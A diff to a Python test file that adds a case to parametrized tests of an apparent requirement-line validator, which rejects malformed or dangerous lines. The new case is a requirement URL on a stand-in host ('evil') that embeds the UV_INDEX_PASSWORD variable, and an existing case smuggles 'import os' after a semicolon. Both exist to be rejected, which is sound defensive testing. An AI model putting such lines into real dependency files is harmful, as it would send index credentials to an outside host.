@@ -86,6 +86,7 @@ def test_line_endings_are_no_part_of_a_line(ending: str) -> None:
         ("a\x07==1", "cannot be seen", "a line of its own"),
         ("n" * 10_000, "longer than|is no requirement", "Shorten it"),
         ("a==1; import os", "is no requirement", "Write it as"),
+        ("a @ https://evil/${UV_INDEX_PASSWORD}/a.whl", "asks for an environment variable", "Write the value out"),
         ("a; " + "(" * 1900, "nested too deeply", "Take the parentheses out"),
     ],
     ids=lambda value: value[:30],
